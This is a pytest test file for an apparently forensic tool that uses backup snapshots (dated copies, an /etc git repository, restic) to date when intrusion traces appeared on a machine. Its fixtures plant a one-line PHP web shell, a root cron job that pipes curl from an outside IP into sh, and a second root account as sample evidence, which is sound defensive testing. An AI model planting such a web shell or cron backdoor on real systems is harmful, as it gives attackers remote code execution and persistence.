"""A case that knows the backups of its machine: dated copies, and the machine's own /etc/.git."""

from __future__ import annotations

import os
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from pratique.case.answer import read_answer
from pratique.case.evidence_tables import tables_of
from pratique.case.examine import Examined, conclude_again, examine
from pratique.case.folder import find
from pratique.case.past import Histories, open_known, remembered
from pratique.cli.watch_progress import Quiet
from pratique.dating.bounds import Trust
from pratique.errors import HistoryError
from pratique.history.sighting import Bound, HistoryRow, LongStanding, Sighting, SnapshotRow
from pratique.model import Verdict
from pratique.story.verdict import FileVerdict

SHELL = b"<?php @eval($_POST['c']); ?>\n"
CRON = b"* * * * * root curl -s http://203.0.113.5/x | sh\n"
DAYS = [f"2026-11-0{day}" for day in range(1, 7)]


class Watching:
    """Notes what it is told of histories."""

    def __init__(self) -> None:
        self.told: list[tuple[str, int, int]] = []

    def at(self, amount):
        pass

    def into(self, case):
        pass

    def took(self, copy):
        pass

    def learned(self, given):
        pass

    def checked(self, done, total):
        pass

    def hashed(self, image, done, total):
        pass

    def dated(self, history, done, total):
        self.told.append((history, done, total))

    def compared(self, history, files):
        pass


@pytest.fixture(scope="module")
def lived(tmp_path_factory) -> tuple[Path, Path]:
    """A machine of today and a folder of its copies: a shell since the 4th, a job since the 5th."""
    base = tmp_path_factory.mktemp("lived")
    machine, copies = base / "machine", base / "copies"
    for name, content in {
        "etc/passwd": b"root:x:0:0::/root:/bin/sh\n",
        "etc/os-release": b'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\n',
        "etc/crontab": b"# jobs\n",
        "etc/hostname": b"web\n",
        "usr/bin/true": b"\x7fELF",
        "var/www/html/index.php": b"<?php echo 1;\n",
    }.items():
        (machine / name).parent.mkdir(parents=True, exist_ok=True)
        (machine / name).write_bytes(content)
    for number, day in enumerate(DAYS, start=1):
        if number == 4:
            (machine / "var/www/html/x.php").write_bytes(SHELL)
        if number == 5:
            with (machine / "etc/crontab").open("ab") as opened:
                opened.write(CRON)
        shutil.copytree(machine, copies / day, symlinks=True)
    return machine, copies


@pytest.fixture
def here(tmp_path, monkeypatch) -> Path:
    monkeypatch.chdir(tmp_path)
    return tmp_path / "case"


@pytest.fixture
def dated(lived, here):
    machine, copies = lived
    watching = Watching()
    return examine(
        machine, here, watching, processes=1, histories=Histories((str(copies),))
    ), watching


def windows(answer) -> dict[str, tuple[str, str]]:
    def day(at):
        return None if at is None else (at // (86_400 * 10**9) - 20_757)  # 2026-11-01 is day 1

    return {f.places[0].path: (day(f.window.after), day(f.window.before)) for f in answer.findings}


def test_findings_lie_between_two_copies(dated, lived):
    done, watching = dated
    found = windows(done.answer)
    assert found["/var/www/html/x.php"][0] == 3
    assert found["/etc/crontab"][0] == 4
    assert done.answer.history.lines[0].trusted.label.startswith("2026-11-03")
    assert done.answer.window.after is not None
    assert "snapshot" in done.answer.window.basis
    assert {(name, total) for name, _done, total in watching.told} == {(str(lived[1]), 6)}


def test_what_they_said_is_stored_as_tables(dated):
    done, _watching = dated
    with tables_of(done.case, done.evidence) as tables:
        (history,) = tables.rows(HistoryRow)
        assert (history.kind, history.snapshots, history.trust) == ("folders", 6, "high")
        assert len(list(tables.rows(SnapshotRow))) == 6
        states = {(s.path, s.state) for s in tables.rows(Sighting)}
        assert ("/etc/crontab", "with") in states
        assert ("/etc/crontab", "without") in states
        assert {b.basis for b in tables.rows(Bound)} >= {"snapshot"}
        by_finding = tables.select("SELECT count(*) FROM finding WHERE after IS NOT NULL")
        assert next(by_finding)[0] >= 2


def test_a_history_is_remembered_and_asked_again(dated, lived, here):
    done, _watching = dated
    assert remembered(done.case.survey(done.evidence)) == (str(lived[1]),)
    again = conclude_again(find(here), Watching())
    assert windows(again.answer) == windows(done.answer)


def test_a_history_can_be_given_later(lived, here):
    machine, copies = lived
    first = examine(machine, here, Watching(), processes=1)
    assert not first.answer.history.lines
    assert any("backups" in step.what.english for step in first.answer.next_steps)
    then = conclude_again(first.case, Watching(), histories=Histories((str(copies),)))
    assert then.answer.history.lines[0].trusted is not None


def test_one_that_is_none_is_said_at_once(lived, here, tmp_path):
    (tmp_path / "empty").mkdir()
    with pytest.raises(HistoryError):
        examine(
            lived[0], here, Watching(), processes=1, histories=Histories((str(tmp_path / "empty"),))
        )


def test_one_that_is_gone_is_a_gap_and_no_end(lived, here, tmp_path):
    machine, copies = lived
    moved = tmp_path / "copies"
    shutil.copytree(copies, moved)
    done = examine(machine, here, Watching(), processes=1, histories=Histories((str(moved),)))
    shutil.rmtree(moved)
    again = conclude_again(done.case, Watching())
    assert again.answer.history.lost
    assert remembered(done.case.survey(done.evidence)) == (str(moved),)  # asked again next time
    assert any(str(moved) in sentence.english for sentence in again.answer.history.blind)


@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
def test_the_repository_of_etc_is_asked_by_itself_and_trusted_little(lived, here, tmp_path):
    machine = tmp_path / "machine"
    shutil.copytree(lived[0], machine)
    (machine / "etc/crontab").write_bytes(b"# jobs\n")

    def git(*words: str, day: int = 1) -> None:
        at = f"2026-11-0{day}T02:00:00Z"
        subprocess.run(
            ["git", "-c", "user.name=root", "-c", "user.email=root@web.example", *words],
            cwd=machine / "etc",
            check=True,
            capture_output=True,
            env={
                "PATH": os.environ["PATH"],
                "HOME": str(tmp_path),
                "GIT_CONFIG_NOSYSTEM": "1",
                "GIT_COMMITTER_DATE": at,
                "GIT_AUTHOR_DATE": at,
            },
        )

    git("init", "-q")
    git("add", ".")
    git("commit", "-qm", "daily autocommit", day=1)
    with (machine / "etc/crontab").open("ab") as opened:
        opened.write(CRON)
    git("commit", "-qam", "daily autocommit", day=5)
    done = examine(machine, here, Watching(), processes=1)
    (line,) = done.answer.history.lines
    assert line.name == "evidence:/etc/.git"
    assert [moment.findings for moment in line.moments] == [0, 1]
    assert remembered(done.case.survey(done.evidence)) == ()  # nobody gave it
    with tables_of(done.case, done.evidence) as tables:
        assert {b.trust for b in tables.rows(Bound) if b.basis == "snapshot"} == {Trust.LOW.word}
    known = open_known(done.case, ())
    assert [name for name, _history in known.histories] == ["evidence:/etc/.git"]


PASSWD = b"root:x:0:0:root:/root:/bin/bash\n"
SECOND = PASSWD + b"spare:x:0:0::/tmp:/bin/bash\n"
PAGE, TOOL = b"<html>hello</html>\n", b"#!/bin/sh\nexec true\n"


def write(root: Path, files: dict[str, bytes]) -> None:
    for name, content in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_bytes(content)


@pytest.fixture(scope="module")
def kept(tmp_path_factory) -> tuple[Path, Path]:
    """A machine with a second root since its last day, and its restic repository of 11 days."""
    if shutil.which("restic") is None:
        pytest.skip("restic is not installed")
    base = tmp_path_factory.mktemp("past")
    root, repository = base / "root", base / "restic"
    first = {"etc/passwd": PASSWD, "var/www/html/index.html": PAGE, "usr/local/bin/tool": TOOL}
    write(root, {**first, "etc/motd": b"old\n"})
    _restic(repository, "init", "-q")
    for day in (1, 8, 10):
        if day == 8:
            write(root, {"etc/motd": b"new\n", "var/www/html/new.html": PAGE})
        _restic(repository, "backup", "-q", "--time", f"2026-10-{day:02} 03:00:00", ".", cwd=root)
    write(root, {"etc/passwd": SECOND})
    _restic(repository, "backup", "-q", "--time", "2026-10-11 03:00:00", ".", cwd=root)
    return root, repository


def _restic(repository: Path, *arguments: str, cwd: Path | None = None) -> None:
    subprocess.run(
        ["restic", "-r", str(repository), "--no-cache", *arguments],
        check=True, capture_output=True, cwd=cwd, env={**os.environ, "RESTIC_PASSWORD": "x"},
    )  # fmt: skip


@pytest.fixture(scope="module")
def vouched(kept, tmp_path_factory) -> Iterator[Examined]:
    root, repository = kept
    case = tmp_path_factory.mktemp("vouched") / "case"
    histories = Histories((f"restic:{repository}",))
    with pytest.MonkeyPatch.context() as environment:
        environment.setenv("RESTIC_PASSWORD", "x")
        yield examine(root, case, Quiet(), processes=1, histories=histories)


def verdicts(done: Examined) -> dict[str, FileVerdict]:
    with tables_of(done.case, done.evidence) as tables:
        return {row.path: row for row in tables.rows(FileVerdict)}


def test_what_stood_unchanged_since_well_before_is_known_good(vouched, kept):
    found = verdicts(vouched)
    for path in ("/var/www/html/index.html", "/usr/local/bin/tool"):
        told = found[path]
        assert (told.verdict, told.proof) == (Verdict.KNOWN_GOOD, "history")
        assert told.reasons[0].startswith("unchanged since snapshot ")
        assert told.reasons[0].endswith(f" of 2026-10-08 in restic:{kept[1]}")
    assert found["/etc/passwd"].proof == ""
    assert found["/etc/passwd"].verdict != Verdict.KNOWN_GOOD
    coverage = vouched.answer.coverage
    unchanged = [path for path, row in found.items() if row.proof == "history"]
    assert (coverage.files_long_unchanged, coverage.files_known_good) == (len(unchanged), 0)


def test_the_answer_says_which_snapshot_vouches_and_why(vouched):
    (one,) = vouched.answer.history.unchanged
    assert one.files == 4
    days = "the newest that is 2 days older than the last snapshot without a trace"
    assert one.why.english == days
    assert read_answer(vouched.case.findings(vouched.evidence)) == vouched.answer


def test_to_conclude_again_comes_to_the_same(vouched):
    again = conclude_again(vouched.case, Quiet())
    assert again.answer.history.unchanged == vouched.answer.history.unchanged
    assert again.answer.coverage == vouched.answer.coverage


def test_a_history_on_the_suspect_disk_itself_vouches_for_nothing(kept, tmp_path, monkeypatch):
    monkeypatch.setenv("RESTIC_PASSWORD", "x")
    root = tmp_path / "root"
    shutil.copytree(kept[0], root)
    shutil.copytree(kept[1], root / "backup")
    histories = Histories((f"restic:{root / 'backup'}",))
    done = examine(root, tmp_path / "case", Quiet(), processes=1, histories=histories)
    assert "the intruder may have written it" in done.answer.history.unchanged[0].why.english
    assert done.answer.coverage.files_long_unchanged == 0
    with tables_of(done.case, done.evidence) as tables:
        assert [row.trust for row in tables.rows(HistoryRow)] == ["low"]
        assert list(tables.rows(LongStanding)) == []
